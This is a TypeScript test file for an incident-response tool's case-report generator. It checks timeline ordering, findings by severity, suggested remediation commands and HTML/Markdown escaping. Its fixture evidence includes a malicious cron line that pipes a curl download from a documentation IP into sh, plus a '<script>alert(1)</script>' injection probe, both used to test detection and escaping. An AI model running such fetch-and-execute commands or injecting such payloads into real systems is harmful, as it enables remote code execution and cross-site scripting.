import { mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { writeCaseMeta, type CaseMeta } from '../../src/case/case.js';
import { Journal } from '../../src/case/journal.js';
import { buildCaseReport } from '../../src/report/model.js';
import { writeCaseReport } from '../../src/report/write.js';

let dir: string;

/** A case as `ir playbook run incident` leaves it, with each step's JSON trimmed to what the report reads. */
function makeCase(outputs: Record<string, unknown>): string {
  const caseDir = join(dir, 'incident-1');
  const meta: CaseMeta = { kind: 'ir-case', id: 'incident-1', playbook: 'incident', version: 1, playbookSha256: 'x', startedAt: '2026-03-02T10:00:00.000Z', fleet: false, hosts: [{ label: 'web1', spec: 'deploy@192.0.2.10', groups: [], dir: '.' }], target: 'ssh', targetArgs: [], vars: {} };
  writeCaseMeta(caseDir, meta, 'name: incident\n');
  mkdirSync(join(caseDir, 'steps'));
  const j = new Journal(join(caseDir, 'journal.jsonl'));
  j.write({ event: 'case-start' });
  let n = 0;
  for (const [command, out] of Object.entries(outputs)) {
    n++;
    const file = `steps/0${n}-${command}.json`;
    if (out !== undefined) writeFileSync(join(caseDir, file), JSON.stringify(out));
    j.write({ event: 'step-end', host: 'web1', n, step: command, command, status: 'findings', exitCode: 1, outputs: [file], argv: [command, '--json'] });
  }
  j.write({ event: 'host-end', host: 'web1', status: 'findings', exitCode: 1 });
  return caseDir;
}

beforeEach(() => (dir = mkdtempSync(join(tmpdir(), 'ir-report-'))));
afterEach(() => rmSync(dir, { recursive: true, force: true }));

const SCAN = {
  findings: [
    { rule: 'cron.fetch-exec', key: 'k1', contentHash: 'h1', detector: 'cron', severity: 'critical', title: 'cron job fetches and runs a script', path: '/var/spool/cron/crontabs/deploy', line: 3, evidence: '* * * * * curl http://203.0.113.9/x | sh <script>alert(1)</script>', mtime: '2026-03-01T22:10:00.000Z', remediation: 'remove the line', reason: 'r' },
    { rule: 'authorized-keys.unknown', key: 'k2', contentHash: 'h2', detector: 'authorized-keys', severity: 'medium', title: 'unknown key', path: '/root/.ssh/authorized_keys', evidence: 'ssh-ed25519 AAAA x', mtime: '2026-03-01T22:12:00.000Z', reason: 'r' },
    { rule: 'ports.inventory', key: 'k3', contentHash: 'h3', detector: 'ports', severity: 'info', title: 'listener 22', evidence: 'tcp 22', reason: 'r' },
  ],
};
const AUTH = {
  topIps: [
    { ip: '203.0.113.50', failures: 40, users: ['deploy'], firstSeen: '2026-03-01T21:00:00.000Z', lastSeen: '2026-03-01T22:05:00.000Z', bannedIn: ['sshd'] },
  ],
  logins: [{ user: 'deploy', ip: '203.0.113.50', method: 'password', count: 1, first: '2026-03-01T22:06:00.000Z', last: '2026-03-01T22:06:00.000Z', failedBefore: true, failuresFromIp: 40, afterBruteForce: true }],
  alerts: [{ rule: 'auth.success-after-brute-force', severity: 'critical', title: 'deploy logged in after a brute force', evidence: 'Accepted password for deploy from 203.0.113.50' }],
  histogram: { bucket: 'hour', buckets: [{ start: '2026-03-01T21:00:00.000Z', failures: 25, accepted: 0 }, { start: '2026-03-01T22:00:00.000Z', failures: 15, accepted: 1 }] },
};
const ISOLATE = { case: '/cases/incident-1', mode: 'pause', dryRun: false, project: { name: 'shop' }, actions: [{ kind: 'pause', subject: 'shop-app-1', argv: ['docker', 'pause', 'abc'], startedAt: '2026-03-02T10:01:00.000Z', endedAt: '2026-03-02T10:01:01.000Z', code: 0, ok: true }] };

describe('case report', () => {
  test('time order, findings by severity, actions and what to do next from the steps JSON', () => {
    const r = buildCaseReport(makeCase({ collect: { path: '/cases/incident-1/web1.tar.gz', sha256: 'ab'.repeat(32) }, isolate: ISOLATE, 'persistence-scan': SCAN, 'auth-review': AUTH }));
    expect(r.timeline.map((e) => e.kind)).toEqual(['auth-failures', 'login', 'persistence', 'persistence', 'isolation']);
    expect(r.findings.map((f) => [f.severity, f.source])).toEqual([
      ['critical', 'auth-review/auth.success-after-brute-force'],
      ['critical', 'persistence-scan/cron.fetch-exec'],
      ['medium', 'persistence-scan/authorized-keys.unknown'],
    ]);
    expect(r.chart.isolation).toHaveLength(1);
    expect(r.chart.failures[0]!.points).toHaveLength(2);
    expect(r.evidence[0]!.sha256).toBe('ab'.repeat(32));
    const titles = r.next.map((n) => n.title);
    expect(titles).toEqual(expect.arrayContaining([expect.stringMatching(/^Unban 203\.0\.113\.50 on web1/), 'Rotate SSH keys', expect.stringMatching(/Bring web1's project back/)]));
    const unban = r.next.find((n) => n.title.startsWith('Unban'))!;
    expect(unban.commands).toContain('sudo fail2ban-client set sshd unbanip 203.0.113.50');
    const restore = r.next.find((n) => n.title.startsWith('Bring'))!;
    expect(restore.commands).toEqual(expect.arrayContaining(['ir restore --case /cases/incident-1 --host deploy@192.0.2.10 --sudo --dry-run', 'git checkout HEAD~1 -- docker-compose.yaml Dockerfile', 'docker compose up -d --build']));
  });

  test('a step whose output is absent or not JSON leaves its part empty; the report is still written', () => {
    const caseDir = makeCase({ collect: undefined, 'persistence-scan': SCAN, fail2ban: undefined });
    writeFileSync(join(caseDir, 'steps/03-fail2ban.json'), 'garbage');
    const { files, report } = writeCaseReport(caseDir);
    expect(files.map((f) => f.slice(caseDir.length + 1))).toEqual(['report.md', 'report.html', 'findings.json']);
    expect(report.evidence).toEqual([]);
    expect(report.findings).toHaveLength(2);
  });

  test('report.html is self-contained, escapes evidence and draws the chart as inline SVG', () => {
    const caseDir = makeCase({ isolate: ISOLATE, 'persistence-scan': SCAN, 'auth-review': AUTH });
    writeCaseReport(caseDir);
    const html = readFileSync(join(caseDir, 'report.html'), 'utf8');
    expect(html).toContain('<svg id="timeline"');
    expect(html).toMatch(/<g class="failures">\s*<rect /);
    expect(html).toContain('class="isolation"');
    expect(html).toContain('<table id="findings">');
    expect(html).not.toContain('<script');
    expect(html).toContain('&lt;script&gt;alert(1)&lt;/script&gt;');
    expect(html).not.toMatch(/(src|href)="https?:/);
    expect(html).toContain("default-src 'none'");
    const md = readFileSync(join(caseDir, 'report.md'), 'utf8');
    expect(md).toMatch(/^# Case incident-1: incident playbook/);
    expect(md.indexOf('## What happened')).toBeLessThan(md.indexOf('## Findings by severity'));
    expect(md).toContain('### CRITICAL (2)');
    // in Markdown, raw HTML is only safe inside a code span, where it is shown as text
    for (const line of md.split('\n').filter((l) => l.includes('<script>'))) expect(line).toMatch(/`[^`]*<script>alert\(1\)<\/script>[^`]*`/);
  });
});
